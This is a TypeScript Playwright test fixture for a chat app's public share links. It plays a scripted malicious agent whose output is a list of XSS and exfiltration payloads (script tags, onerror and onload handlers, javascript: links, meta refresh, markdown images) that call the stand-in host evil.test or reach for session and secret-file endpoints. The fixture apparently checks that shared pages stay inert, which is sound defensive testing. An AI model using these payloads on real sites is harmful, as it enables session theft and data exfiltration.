import type { BrowserContext, Page } from 'playwright-core';
import type { Share, ShareList } from '../../contract/shares.ts';
import type { RecordedRequest } from '../harness/scripted-provider.ts';
import { type Script, text } from '../harness/scripted-script.ts';
import { type ContextOptions, WebApp } from './web-app.ts';

export const TITLE = 'What shall we plant?';

const ANSWER = [
  '## A plan\n\nSome **beans**, says [the almanac](https://almanac.test/beans).',
  '| where | what |\n|---|---|\n| south | beans |',
  '```ts\nconst beds = 4;\n```\n\nThat is all.',
].join('\n\n');

/** What somebody could say to whoever reads it. */
export const ATTACK = [
  '<script>fetch("https://evil.test/?script")</script>',
  '<img src="https://evil.test/?html" onerror="fetch(\'https://evil.test/?onerror\')">',
  '![elsewhere](https://evil.test/?image)',
  '![here](/api/files/0199-secret)',
  '[policy.pdf, p. 2](/knowledge/0199-secret#p2)',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/?meta">',
  '<iframe src="/api/sessions"></iframe>',
  '[click](javascript:fetch("https://evil.test/?js"))',
  '[bank.test](https://evil.test/?claims)',
  '<svg onload="fetch(\'/api/sessions\')"></svg>',
].join('\n\n');

export interface Visit {
  page: Page;
  context: BrowserContext;
  /** What was asked for besides the page itself and what it is made of. */
  asked: string[];
}

/** A conversation with everything in it that can be shared, a link to it, and browsers that nobody has signed in. */
export class ShareFixture {
  readonly app: WebApp;
  session = '';
  /** With what tools were given and gave back. */
  link!: Share;

  private constructor(app: WebApp) {
    this.app = app;
  }

  static async start(): Promise<ShareFixture> {
    const app = await WebApp.start({
      agents: [
        { agentId: 'ada', displayName: 'Ada Gardener', toolAllowlist: ['todo_*'] },
        { agentId: 'boss', displayName: 'Boss', agentAllowlist: ['ada'], delegation: { tags: true } },
        { agentId: 'mallory' },
      ],
    });
    app.provider.script(play);
    const made = new ShareFixture(app);
    made.session = await made.talk();
    made.link = await made.share(made.session, { toolDetails: true });
    return made;
  }

  async talk(): Promise<string> {
    const { parley } = this.app;
    const { id } = await parley.createSession({ agentId: 'boss' });
    const file = await parley.ok<{ id: string }>('POST', '/api/files?name=garden.txt', 'beds');
    await parley.say(id, { content: TITLE, files: [file.id] });
    await parley.say(id, { content: 'And you?', guest: 'ada' });
    return id;
  }

  share(session: string, wish: object = {}): Promise<Share> {
    return this.app.parley.ok<Share>('POST', `/api/sessions/${session}/shares`, wish);
  }

  async linksOf(session: string): Promise<Share[]> {
    return (await this.app.parley.ok<ShareList>('GET', `/api/shares?session=${session}`)).shares;
  }

  async visit(url: string, options: ContextOptions = {}): Promise<Visit> {
    const page = await this.app.stranger('about:blank', options);
    const asked: string[] = [];
    page.on('request', (request) => {
      const { pathname } = new URL(request.url());
      if (!OF_THE_PAGE.test(pathname)) asked.push(`${request.method()} ${pathname}`);
    });
    await page.goto(url);
    return { page, context: page.context(), asked };
  }
}

const OF_THE_PAGE = /^\/(?:s|assets)\/|^\/(?:theme\.js|icon\.svg)$/;

/** The one thing that the page of a link may ask for. */
export function dataOf(url: string): string {
  return `GET ${new URL(url).pathname.replace('/s/', '/api/public/shares/')}`;
}

/** Words in the page itself. */
export function words(page: Page, found: string) {
  return page.getByRole('main').getByText(found).first();
}

/** The boss has Ada look it up; Ada writes it down and answers; Mallory is as bad as can be. */
function play({ body, said }: RecordedRequest): Script {
  const last = (body.messages as { role: string }[]).at(-1);
  if (body.model === 'model-of-mallory') return { steps: text(`${ATTACK}\n\nThe end of it.`) };
  if (body.model === 'model-of-boss') {
    const isAnswered = said.startsWith('[The agents you asked');
    return { steps: text(isAnswered ? 'So it is.' : 'Ada knows. <delegate to="ada">Look it up</delegate>') };
  }
  if (last?.role === 'tool' || !said.includes('Look it up')) return { steps: text(ANSWER) };
  const titles = said.includes('three') ? ['rhubarb', 'beans', 'peas'] : ['rhubarb'];
  return { steps: titles.map((title) => ({ kind: 'toolCall', name: 'todo_add', input: JSON.stringify({ title }) })) };
}
